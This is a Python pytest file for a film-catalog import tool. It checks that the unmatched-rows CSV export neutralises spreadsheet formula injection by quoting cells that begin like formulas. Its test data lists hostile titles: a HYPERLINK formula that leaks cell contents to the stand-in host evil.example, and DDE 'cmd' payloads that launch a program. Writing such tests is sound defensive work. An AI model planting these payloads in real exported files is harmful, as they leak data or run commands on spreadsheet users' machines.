"""The unmatched-rows download is safe to open in a spreadsheet: cells that start like a formula are text."""

from __future__ import annotations

import csv
import io

import pytest

from cine_core.films.catalog_source import shared_catalog_source
from cine_core.imports.report import ImportReport, csv_cell
from cine_core.imports.rows import ImportRow, RowKind
from cine_core.imports.service import import_bytes

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("title", HOSTILE_TITLES)
def test_a_cell_starting_like_a_formula_gets_a_leading_quote(title):
    assert csv_cell(title) == "'" + title


@pytest.mark.parametrize("value", ["Heat", "Amélie", "2001: A Space Odyssey", "Se7en", 1995, 4.5, "", "a=b", "tt0113277"])
def test_ordinary_cells_are_left_alone(value):
    assert csv_cell(value) == str(value)


def test_every_unmatched_cell_is_neutralised_and_the_file_reads_back(pool, local_user):
    rows = "".join(f'2024-01-0{i + 1},"{t.replace(chr(34), chr(34) * 2)}",1999,https://boxd.it/x{i},3\n'
                   for i, t in enumerate(HOSTILE_TITLES))
    report = import_bytes(pool, ("Date,Name,Year,Letterboxd URI,Rating\n" + rows).encode(), "ratings.csv",
                          local_user, source=shared_catalog_source())
    [header, *cells] = list(csv.reader(io.StringIO(report.to_json()["unmatched_csv"])))
    assert header[0] == "Title" and len(cells) == len(HOSTILE_TITLES)
    # The reader trims whitespace around a title, so the tab and CR rows arrive as '=1+1'.
    assert sorted(row[0] for row in cells) == sorted("'" + t.strip() for t in HOSTILE_TITLES)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in cells for cell in row)


def test_an_imdb_id_or_rating_cell_is_neutralised_too():
    row = ImportRow(kind=RowKind.RATING, title="Heat", year=1995, rating=4.0, imdb_id="=1+1")
    report = ImportReport(service="imdb", matched=0, unmatched=(row.label,), skipped=0, unmatched_rows=(row,))
    [_, cells] = list(csv.reader(io.StringIO(report.unmatched_csv())))
    assert cells[4] == "'=1+1" and cells[0] == "Heat"
